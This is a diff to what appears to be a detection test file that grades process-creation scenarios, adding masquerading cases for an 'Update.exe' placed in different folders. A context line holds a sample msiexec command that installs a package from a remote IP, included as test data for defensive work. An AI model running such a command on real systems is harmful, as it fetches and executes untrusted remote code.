@@ -141,6 +141,14 @@ const severities: readonly Scenario[] = [
       child: { FileName: 'cmd.exe', FolderPath: 'C:\\Windows\\System32\\cmd.exe' },
     },
   }),
+  ...outcomes(story, judged('Medium', 'is called like a program that'), {
+    'a vendor’s program of a name that many have': {
+      child: { FileName: 'Update.exe', FolderPath: 'C:\\Program Files\\Acme\\Update.exe' },
+    },
+  }),
+  ...outcomes(story, judged('High', 'is called like a program that'), {
+    'a program of such a name below Windows': { child: { FileName: 'Update.exe', FolderPath: 'C:\\Windows\\Update.exe' } },
+  }),
   ...outcomes(story, judged('High', 'LOLBin'), {
     'msiexec.exe with a package': { child: { ...installer, ProcessCommandLine: 'msiexec.exe /V /i http://10.20.3.117/a.msi' } },
   }),
